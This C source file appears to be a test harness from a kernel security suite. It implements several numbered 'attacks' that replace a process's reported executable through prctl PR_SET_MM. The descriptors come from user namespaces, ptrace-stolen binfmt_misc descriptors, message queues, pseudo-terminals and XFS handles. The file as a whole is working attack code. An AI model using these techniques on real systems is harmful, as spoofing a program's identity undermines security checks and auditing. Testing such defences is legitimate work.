// SPDX-License-Identifier: GPL-2.0
/*
 * set-exe: attacks that make X the executable of a program that is not X, by prctl(2).
 *
 *	set-exe ROW WHAT [COMMAND...]
 *
 * P11	from a user namespace, staying inside
 * P11b	from a child in a user namespace, which shares the memory; who asks was never inside
 * P11c	the same with a descriptor of X that COMMAND... sends to its descriptor 3
 * P11d	the same with the descriptor of X that binfmt_misc gives to the interpreter of COMMAND..., by
 *	tracing that from its start
 * P11d-early	the same, and it waits for the end of its input with that descriptor
 * P12	with CAP_SYS_RESOURCE
 * P12b	as P11b, with a message queue for X, which mq_open(2) opens with whatever flags
 * P12c	the same with a terminal, by TIOCGPTPEER
 * P21b	as root: as P11b, as user 1000, with a descriptor of the file COMMAND/x on XFS, by its handle
 *
 * On stderr it says with which flags the descriptor of X is open, and what the kernel then thinks
 * this program is.
 *
 * gcc: -static
 */
#define _GNU_SOURCE
#include "attack.h"

#include <elf.h>
#include <grp.h>
#include <linux/prctl.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>

#include "ask.h"

#define FMODE_EXEC	040	/* the kernel's __FMODE_EXEC */

/*
 * The kernel wants addresses that make sense; nobody needs them to be the old ones. EACCES is what it
 * says of a file that cannot be executed: an answer, and no step that went wrong.
 */
static int set_mm_map(void *arg)
{
	const unsigned long brk = (unsigned long)sbrk(0), code = (unsigned long)set_mm_map;
	struct prctl_mm_map map = {
		.start_code = code, .end_code = code + 1,
		.start_data = code, .end_data = code + 1,
		.start_brk = brk, .brk = brk,
		.start_stack = (unsigned long)&map,
		.arg_start = code, .arg_end = code + 1,
		.env_start = code, .env_end = code + 1,
		.exe_fd = *(int *)arg,
	};

	if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof(map), 0) == -1) {
		if (errno != EACCES)
			failed("PR_SET_MM_MAP");
		puts("evil EACCES");
		fflush(stdout);
		_exit(1);
	}
	return 0;
}

static void set_from_child(int fd)
{
	static char stack[65536] __attribute__((aligned(16)));
	int status;
	pid_t child;

	child = check("clone", clone(set_mm_map, stack + sizeof(stack),
				     CLONE_VM | CLONE_VFORK | CLONE_NEWUSER | SIGCHLD, &fd));
	check("waitpid", waitpid(child, &status, 0));
	if (status)
		exit(1);	/* the child has said why */
}

/* Run a command that sends us a descriptor. */
static int descriptor_from(char **command)
{
	int pair[2];

	check("socketpair", socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair));
	if (!check("fork", fork())) {
		if (pair[1] == 3)
			fcntl(3, F_SETFD, 0);
		else
			check("dup2", dup2(pair[1], 3));
		execv(command[0], command);
		failed("exec");
	}
	close(pair[1]);
	return receive_fd(pair[0]);
}

/* Run a command under our eyes, and take the descriptor that the kernel opened for its interpreter. */
static int execfd_of(char **command)
{
	Elf64_auxv_t aux[64];
	char path[64];
	pid_t child;
	int fd, i, n, status;

	child = check("fork", fork());
	if (!child) {
		check("PTRACE_TRACEME", ptrace(PTRACE_TRACEME, 0, NULL, NULL));
		execv(command[0], command);
		failed("exec");
	}
	check("waitpid", waitpid(child, &status, 0));
	if (!WIFSTOPPED(status))
		exit(1);	/* the child has said why */

	snprintf(path, sizeof(path), "/proc/%d/auxv", child);
	fd = check("auxv", open(path, O_RDONLY | O_CLOEXEC));
	n = check("read", read(fd, aux, sizeof(aux))) / sizeof(aux[0]);
	close(fd);
	for (i = 0; i < n && aux[i].a_type != AT_EXECFD; i++)
		;
	errno = ENOENT;
	check("AT_EXECFD", i < n ? 0 : -1);

	fd = check("pidfd_open", syscall(SYS_pidfd_open, child, 0));
	fd = check("pidfd_getfd", syscall(SYS_pidfd_getfd, fd, (int)aux[i].a_un.a_val, 0));
	kill(child, SIGKILL);
	check("waitpid", waitpid(child, &status, 0));
	return fd;
}

static int message_queue(void)
{
	const int fd = check("mq_open", syscall(SYS_mq_open, "attack", O_RDWR | O_CREAT | FMODE_EXEC,
						0700, NULL));

	check("mq_unlink", syscall(SYS_mq_unlink, "attack"));
	return fd;
}

static int terminal(void)
{
	const int master = check("/dev/ptmx", open("/dev/ptmx", O_RDWR | O_NOCTTY));
	int unlock = 0;

	check("TIOCSPTLCK", ioctl(master, TIOCSPTLCK, &unlock));
	return check("TIOCGPTPEER", ioctl(master, TIOCGPTPEER, O_RDWR | O_NOCTTY | FMODE_EXEC));
}

/* <xfs/xfs_fs.h> is in no package that everybody has. */
struct xfs_request {
	unsigned int fd;
	const char *path;
	unsigned int flags;
	void *handle;
	unsigned int handle_size;
	void *found;
	unsigned int *found_size;
};
#define XFS_PATH_TO_HANDLE	_IOWR('X', 105, struct xfs_request)
#define XFS_OPEN_BY_HANDLE	_IOWR('X', 107, struct xfs_request)

static int by_xfs_handle(const char *directory)
{
	const int dir = check(directory, open(directory, O_RDONLY | O_DIRECTORY | O_CLOEXEC));
	unsigned char handle[64];
	unsigned int size = sizeof(handle);
	char path[256];
	struct xfs_request find = { .path = path, .found = handle, .found_size = &size };
	struct xfs_request request = { .flags = O_RDONLY | FMODE_EXEC, .handle = handle };

	snprintf(path, sizeof(path), "%s/x", directory);
	check("XFS_IOC_PATH_TO_HANDLE", ioctl(dir, XFS_PATH_TO_HANDLE, &find));
	request.handle_size = size;
	return check("XFS_IOC_OPEN_BY_HANDLE", ioctl(dir, XFS_OPEN_BY_HANDLE, &request));
}

static void become_user(void)
{
	check("setgroups", setgroups(0, NULL));
	check("setresgid", setresgid(1000, 1000, 1000));
	check("setresuid", setresuid(1000, 1000, 1000));
}

static void show_flags(int fd)
{
	char path[64], line[128];
	FILE *info;

	snprintf(path, sizeof(path), "/proc/self/fdinfo/%d", fd);
	info = fopen(path, "r");
	while (info && fgets(line, sizeof(line), info))
		if (!strncmp(line, "flags:", 6))
			fputs(line, stderr);
	if (info)
		fclose(info);
}

int main(int argc, char **argv)
{
	const char *row = argv[1];
	char name[256] = "";
	int fd;

	alarm(20);
	if (argc < 3) {
		fprintf(stderr, "usage: set-exe ROW WHAT [COMMAND...]\n");
		return 2;
	}
	if (!strcmp(row, "P11c"))
		fd = descriptor_from(argv + 3);
	else if (!strncmp(row, "P11d", 4))
		fd = execfd_of(argv + 3);
	else if (!strcmp(row, "P12b"))
		fd = message_queue();
	else if (!strcmp(row, "P12c"))
		fd = terminal();
	else if (!strcmp(row, "P21b"))
		fd = by_xfs_handle(argv[3]);
	else
		fd = check("open", open(X, O_RDONLY));
	show_flags(fd);
	if (!strcmp(row, "P21b"))
		become_user();
	while (!strcmp(row, "P11d-early") && getchar() != EOF)
		;

	forget_executable();	/* else the kernel refuses: EBUSY */
	if (!strcmp(row, "P11")) {
		enter_user_ns(0);
		set_mm_map(&fd);
	} else if (!strcmp(row, "P12")) {
		check("PR_SET_MM_EXE_FILE", prctl(PR_SET_MM, PR_SET_MM_EXE_FILE, fd, 0, 0));
	} else {
		set_from_child(fd);
	}
	check("readlink", readlink("/proc/self/exe", name, sizeof(name) - 1));
	fprintf(stderr, "executable: %s\n", name);

	ask("evil", argv[2], ASK_PROCESS_KEYRING);
	return 0;
}
